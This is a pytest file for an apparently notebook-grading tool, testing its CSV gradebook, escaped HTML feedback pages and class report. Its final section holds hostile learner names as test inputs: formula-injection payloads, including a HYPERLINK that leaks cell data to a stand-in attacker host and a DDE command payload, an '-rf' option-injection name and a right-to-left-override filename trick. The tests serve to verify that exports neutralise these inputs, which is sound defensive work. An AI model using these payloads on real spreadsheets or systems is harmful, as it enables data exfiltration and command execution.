"""The teacher's outputs: CSV gradebook, feedback pages and the class report."""

from __future__ import annotations

import csv
import json
import shutil
import unicodedata
from dataclasses import replace

import pytest

from coursekit.cli.app import main
from coursekit.exporters import Batch, get_exporter
from coursekit.exporters.feedback import render_feedback, write_feedback
from coursekit.exporters.gradebook import write_csv
from coursekit.exporters.report import render_report
from coursekit.grading.csvfiles import read_rows
from coursekit.grading.identity import Roster
from coursekit.grading.itemanalysis import analyse
from coursekit.grading.results import (
    ExerciseGrade,
    ResultsError,
    SubmissionGrade,
    from_json,
    to_json,
)
from coursekit.model.exercises import lessons

from .conftest import LESSONS
from .item_class import item_class
from .test_lms import canvas_rows


def grade(path, statuses, lesson="02_percentages", feedback="x"):
    exercises = [ExerciseGrade(f"q{i}", s, 1 if s == "correct" else 0, 1,
                               feedback if s != "correct" else "fine")
                 for i, s in enumerate(statuses, start=1)]
    return SubmissionGrade(path, lesson, "graded", None, sum(e.points for e in exercises),
                           len(exercises), exercises)


CLASS = [
    grade("class/alice.ipynb", ["correct"] * 8),
    grade("class/bob/02_percentages.ipynb", ["incorrect", *["correct"] * 6, "unanswered"],
          feedback="0.888889 percent: That looks like a fraction <script>"),
    replace(grade("class/carol.ipynb", ["incorrect", *["correct"] * 7],
                  feedback="0.8889 percent: That looks like a fraction <script>"),
            cell_errors=[{"cell": 7, "error": "NameError: name 'x' is not defined"}]),
    SubmissionGrade("class/dave.ipynb", "", "error", "class/dave.ipynb: not a valid notebook",
                    0, 0, []),
]


def batch(grades):
    return Batch(grades, lesson_ids=frozenset(lessons()))


def test_learner_ids_come_from_file_or_folder():
    assert [batch(CLASS).learner(g) for g in CLASS] == ["alice", "bob", "carol", "dave"]


def test_csv_has_a_stable_column_order(tmp_path):
    write_csv(batch(CLASS), tmp_path / "grades.csv")
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8-sig") as stream:
        rows = list(csv.reader(stream))
    ids = [e.id for e in lessons()["02_percentages"].exercises]
    assert rows[0] == ["learner", "lesson", *ids, "total", "max_score", "status", "error", "path",
                       "cell_errors", "flags"]
    total, status = rows[0].index("total"), rows[0].index("status")
    assert rows[3][-2] == "cell 7: NameError: name 'x' is not defined"
    assert rows[1][:3] == ["alice", "02_percentages", "1"] and rows[1][total] == "8"
    assert rows[2][2] == "0" and rows[2][total] == "6"
    assert rows[4][0] == "dave" and rows[4][status] == "error"
    assert "not a valid" in rows[4][status + 1]


def test_csv_prefixes_exercises_when_lessons_are_mixed(tmp_path):
    mixed = [*CLASS[:1], grade("class/erin.ipynb", ["correct"] * 8, lesson="01_reading_numbers")]
    write_csv(batch(mixed), tmp_path / "grades.csv")
    header = (tmp_path / "grades.csv").read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert "01_reading_numbers:q1" in header and "02_percentages:q8" in header


def test_feedback_pages_are_self_contained_and_escaped(tmp_path):
    written = write_feedback(batch(CLASS), tmp_path / "feedback")
    assert [p.name for p in written] == ["alice.html", "bob.html", "carol.html", "dave.html"]
    page = render_feedback(CLASS[1], "bob")
    assert "Score: <strong>6 / 8</strong>" in page
    assert "&lt;script&gt;" in page and "<script>" not in page
    assert "The company&#39;s share of Uyghur and other ethnic minority staff" in page
    assert "http" not in page.replace("http-equiv", ""), "no external resources"
    assert "could not be graded" in render_feedback(CLASS[3], "dave")
    assert "cell 7: NameError: name &#39;x&#39; is not defined" in render_feedback(CLASS[2],
                                                                                   "carol")


def test_report_shows_charts_mistakes_and_errors():
    page = render_report(CLASS)
    assert page.count('src="data:image/png;base64,') == 3  # scores, success, item analysis
    assert "4 submissions: 3 graded, 1 could not be graded" in page
    assert ("<td>q1</td><td>2</td><td>That looks like a fraction &lt;script&gt;</td>"
            "<td>0.888889 percent, 0.8889 percent</td>") in page
    assert "<td><code>class/carol.ipynb</code></td><td>1</td>" in page
    assert "class/dave.ipynb" in page and "not a valid notebook" in page


def test_an_unreadable_notebook_s_page_says_what_happened_and_what_to_do(tmp_path):
    """A teacher's first run: the page said "Unknown lesson", "Score 0 / 0", a raw JSON
    error and "call .hint()", nothing a learner could act on."""
    from coursekit.grading.pipeline import grade_notebook

    path = tmp_path / "02_percentages.ipynb"
    path.write_text('{"cells": [tru', encoding="utf-8")
    page = render_feedback(grade_notebook(path), "frank")
    for missing in ("Unknown lesson", "Score: <strong>0 / 0", ".hint()"):
        assert missing not in page
    for told in ("could not be opened as a Jupyter notebook", "save it again",
                 "Check that it is the right file", "Hand it in again"):
        assert told in page
    assert "<details><summary>Details for your teacher" in page  # the raw error, out of the way


def test_results_round_trip_and_bad_json_is_explained():
    assert from_json(to_json(CLASS)) == CLASS
    with pytest.raises(ResultsError, match=r"r\.json: not JSON"):
        from_json("{", source="r.json")
    with pytest.raises(ResultsError, match="not the JSON of 'coursekit grade"):
        from_json(json.dumps({"grades": []}), source="r.json")


def test_cli_writes_gradebook_feedback_and_report(tmp_path, capsys):
    folder = tmp_path / "class"
    (folder / "erin").mkdir(parents=True)
    shutil.copy(LESSONS / "02_percentages.ipynb", folder / "erin" / "02_percentages.ipynb")
    (folder / "frank.ipynb").write_text("not a notebook", encoding="utf-8")
    results = tmp_path / "results.json"
    assert main(["grade", str(folder), "--format", "json", "--output", str(results),
                 "--csv", str(tmp_path / "grades.csv"), "--feedback", str(tmp_path / "fb"),
                 "--jobs", "1"]) == 0
    assert sorted(p.name for p in (tmp_path / "fb").iterdir()) == ["erin.html", "frank.html"]
    assert (tmp_path / "grades.csv").read_text(encoding="utf-8").count("\n") == 3
    assert main(["report", str(results), "--html", str(tmp_path / "report.html")]) == 0
    assert "1 could not be graded" in (tmp_path / "report.html").read_text(encoding="utf-8")
    assert main(["report", str(tmp_path / "grades.csv"), "--html", str(tmp_path / "x")]) == 2
    assert "grades.csv: not JSON" in capsys.readouterr().err
    assert main(["report", str(tmp_path / "missing.json"), "--html", str(tmp_path / "x")]) == 2


def test_frequent_mistakes_group_the_same_slip_with_different_numbers():
    from coursekit.exporters.report import _exercises, frequent_mistakes

    wrong = [grade(f"class/l{i}.ipynb", ["incorrect"], feedback=text) for i, text in enumerate([
        "0.889 percent: That looks like a fraction.",
        "0.8889 percent: That looks like a fraction.",
        "42 percent is not what the data give. Call .hint() for a nudge.",
        "The cell that sets this answer (cell 3) raised NameError: x.\n"
        "0.9 percent: That looks like a fraction.",
    ])]
    table = frequent_mistakes(_exercises(wrong))
    assert table.to_dict("records") == [
        {"id": "q1", "count": 3, "feedback": "That looks like a fraction.",
         "answers": "0.889 percent, 0.8889 percent, 0.9 percent"},
        {"id": "q1", "count": 1, "feedback": "\u2026 is not what the data give. Call .hint() for "
         "a nudge.", "answers": "42 percent"}]


def test_frequent_mistakes_show_a_text_answer_not_its_variable_name():
    """A teacher's first run: 'station_share' stood where the learner's '22.2%' belongs."""
    from coursekit.exporters.report import _exercises, frequent_mistakes

    text = ("'station_share' is the text '22.2%', but a number is asked. Write the number "
            "itself, without quotes or a % sign: 12.5, not '12.5%'.")
    wrong = [grade(f"class/l{i}.ipynb", ["correct"] * 5 + ["incorrect"],
                   feedback=text.replace("22.2", value))
             for i, value in enumerate(["22.2", "22.2", "22"])]
    assert frequent_mistakes(_exercises(wrong)).to_dict("records") == [
        {"id": "q6", "count": 3, "feedback": "'station_share' is text, but a number is asked. "
         "Write the number itself, without quotes or a % sign: 12.5, not '12.5%'.",
         "answers": "'22.2%', '22%'"}]


def test_score_histogram_counts_whole_submissions():
    import pandas as pd

    from coursekit.exporters.charts import score_chart

    ticks = score_chart(pd.Series([1, 2, 2, 8]), 8).axes[0].get_yticks()
    assert all(float(t).is_integer() for t in ticks)


def test_item_chart_is_the_same_every_time():
    from coursekit.exporters.charts import item_chart, png

    items = analyse(item_class()[0]).items
    assert png(item_chart(items)) == png(item_chart(items))


def _item_row(page: str, id: str, after: str = "") -> str:
    """The item analysis table's row of exercise ``id`` (the first after ``after``)."""
    start = page.index(f'<th scope="row">{id}</th>', page.index(after) if after else 0)
    return page[start:page.index("</tr>", start)]


def test_report_analyses_the_items_of_the_class_and_of_each_section(tmp_path):
    grades, roster = item_class()
    get_exporter("report").write(Batch(grades, roster, frozenset(lessons())),
                                 tmp_path / "report.html")
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    whole = analyse(grades)
    assert f"Cronbach's alpha: <strong>{whole.alpha:.2f}</strong>" in page
    for item in whole.items:  # the figures of the module, as the table shows them
        row = _item_row(page, item.id)
        assert f"{100 * item.facility:.0f}% ({item.band})" in row
        assert f"<td>{item.discrimination:.2f}</td>" in row
    assert "probably too easy" in _item_row(page, "q2")
    assert "probably too hard" in _item_row(page, "q3")
    assert "does not tell stronger from weaker learners" in _item_row(page, "q4")
    assert "<td>17%</td>" in _item_row(page, "q8")  # the weakest 4 of 24 left it unanswered
    assert ("10 learners: That looks like a fraction, not a percentage (0.889 percent)"
            in _item_row(page, "q1"))
    assert "Ebel and Frisbie" in page and "Quiz report statistics" in page
    # per section: its own submissions only, with the same figures as the module gives them
    for name in ("A", "B"):
        members = [g for g in grades if roster.row(Batch(grades).learner(g))["section"] == name]
        mine = analyse(members)
        assert f'<th scope="row">{name}</th><td>{len(members)}</td>' in page
        assert f"<h4>Section {name}</h4>" in page
        for item in mine.items:
            row = _item_row(page, item.id, after=f"<h4>Section {name}</h4>")
            assert f"{100 * item.facility:.0f}% ({item.band})" in row
    assert page.count("Most frequent mistakes: Section") == 2
    assert "Late rule applied: 10% off per started day late, at most 30%." in page


def test_a_class_without_sections_has_no_section_part():
    grades, roster = item_class()
    plain = Roster([{"learner": row["learner"]} for row in roster.learners])
    assert "By section" not in render_report(grades, section_of=Batch(grades, plain).section)
    assert "By section" not in render_report(CLASS)
    # learners the roster gives no section are shown together
    partly = Roster([row if row["section"] == "A" else {"learner": row["learner"]}
                     for row in roster.learners])
    page = render_report(grades, section_of=Batch(grades, partly).section)
    assert "<h4>Learners without a section</h4>" in page
    assert '<th scope="row">no section</th><td>12</td>' in page


def test_coursekit_report_takes_the_roster_s_sections(tmp_path):
    grades, roster = item_class()
    (tmp_path / "results.json").write_text(to_json(grades), encoding="utf-8")
    (tmp_path / "roster.csv").write_text("learner,section\n" + "".join(
        f"{row['learner']},{row['section']}\n" for row in roster.learners), encoding="utf-8")
    report = tmp_path / "report.html"
    assert main(["report", str(tmp_path / "results.json"), "--html", str(report)]) == 0
    assert "By section" not in report.read_text(encoding="utf-8")
    assert main(["report", str(tmp_path / "results.json"), "--html", str(report),
                 "--roster", str(tmp_path / "roster.csv")]) == 0
    assert "<h4>Section B</h4>" in report.read_text(encoding="utf-8")


def test_report_says_when_no_late_penalty_was_asked_for():
    grades, _ = item_class()
    unpenalised = [replace(g, late={**g.late, "rule": None, "penalty": 0.0, "percent_off": 0.0})
                   if g.late else g for g in grades]
    page = render_report(unpenalised)
    assert "No late penalty was asked for" in page and "Late rule applied" not in page
    on_time = [replace(g, late={**g.late, "late": False}) if g.late else g for g in unpenalised]
    assert "No late penalty" not in render_report(on_time)  # nobody late: the rule is not known


def test_csv_gradebook_gives_the_late_penalty_and_the_rule(tmp_path):
    grades, roster = item_class()
    write_csv(Batch(grades, roster, frozenset(lessons())), tmp_path / "grades.csv")
    rows = read_rows(tmp_path / "grades.csv", ValueError)
    late = [row for row in rows if row["late"]]
    assert [(r["learner"], r["late"], r["late_rule"]) for r in late] == [
        ("learner04", "late by 2 days", "10% off per started day late, at most 30%"),
        ("learner17", "late by 3 days", "10% off per started day late, at most 30%")]
    for row in late:  # the points taken off are what separates the total from the points
        points = sum(float(row[f"q{i}"]) for i in range(1, 10))
        assert float(row["total"]) == pytest.approx(points - float(row["late_penalty"]))
    assert {(r["late_penalty"], r["late_rule"]) for r in rows if not r["late"]} == {("", "")}


# Outputs safe to open: what a learner names cannot run in the teacher's spreadsheet.

#: Submissions named as the security review named them, beside an honest one.
HOSTILE = ['=HYPERLINK("attacker.example?"&A1,"open")', "-rf --help",
           "report\u202egnp.exe", "+cmd|' -C calc'!A0", "@SUM(1+1)", "\tx", "\r=1+1"]


#: What OWASP's page on CSV injection lists as the first characters of a formula.
OWASP_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def runnable(cell: str) -> bool:
    """Whether a spreadsheet would run the cell as a formula (a number is a number)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.lstrip(" ")[:1] in OWASP_FORMULA_STARTS


def hostile_batch(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("learner,name,email,id\nalice,Alice,alice@example.org,4021\n"
                      'hyperlink,"=HYPERLINK(""http://x.example"")",h@example.org,4022\n',
                      encoding="utf-8")
    grades = [grade("class/alice.ipynb", ["correct"] * 8),
              grade("class/hyperlink.ipynb", ["correct"] * 2 + ["incorrect"] * 6),
              *(grade(f"class/{name}.ipynb", ["correct"] * 3) for name in HOSTILE)]
    return Batch(grades, Roster.from_csv(roster), frozenset(lessons()))


def test_no_csv_the_project_writes_can_run_a_formula(tmp_path):
    hostile = hostile_batch(tmp_path)
    for name in ("csv", "canvas", "moodle"):
        get_exporter(name).write(hostile, tmp_path / f"{name}.csv")
    written = sorted(set(tmp_path.glob("*.csv")) - {tmp_path / "roster.csv"})
    for path in written:
        with open(path, encoding="utf-8-sig", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [cell for cell in cells if runnable(cell)], path.name
        assert "'-rf --help" in cells or path.name in ("canvas.csv", "moodle.csv")
    assert [p.name for p in written] == ["canvas-not-imported.csv", "canvas.csv", "csv.csv",
                                         "moodle-not-imported.csv", "moodle.csv"]
    # what coursekit reads back (a roster, scores) is what was written before the quote
    back = read_rows(tmp_path / "csv.csv", ValueError)
    assert [row["learner"] for row in back] == ["alice", "hyperlink", *HOSTILE]
    assert [row["total"] for row in back] == ["8", "2", *["3"] * len(HOSTILE)]
    # the roster's learner whose name is a formula keeps their grade, their name quoted
    assert ["4022", "'=HYPERLINK(\"http://x.example\")", "2"] in [
        [row[1], row[0], row[5]] for row in canvas_rows(tmp_path / "canvas.csv")]


@pytest.mark.parametrize(("value", "written"), [
    (-2.0, "-2"), (8, "8"), (0.5, "0.5"), (None, ""), ("-2", "'-2"), ("a-b", "a-b"),
    ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"), (True, "True")])
def test_numbers_stay_numbers_and_text_is_neutralised(value, written):
    from coursekit.grading.csvfiles import safe_cell

    assert safe_cell(value) == written


def test_feedback_file_names_are_visible_short_and_never_options(tmp_path):
    names = [p.name for p in write_feedback(hostile_batch(tmp_path), tmp_path / "fb")]
    assert len(set(n.casefold() for n in names)) == len(names) == 2 + len(HOSTILE)
    for name in names:
        assert not name.startswith(("-", ".")), name
        assert not any(unicodedata.category(c)[0] == "C" for c in name), name
        assert len(name.encode("utf-8")) <= 130 and name.endswith(".html")
    assert "rf --help.html" in names and "reportgnp.exe.html" in names
    long = write_feedback(batch([grade(f"class/{'é' * 300}.ipynb", ["correct"])]),
                          tmp_path / "long")
    assert len(long[0].name.encode("utf-8")) <= 130
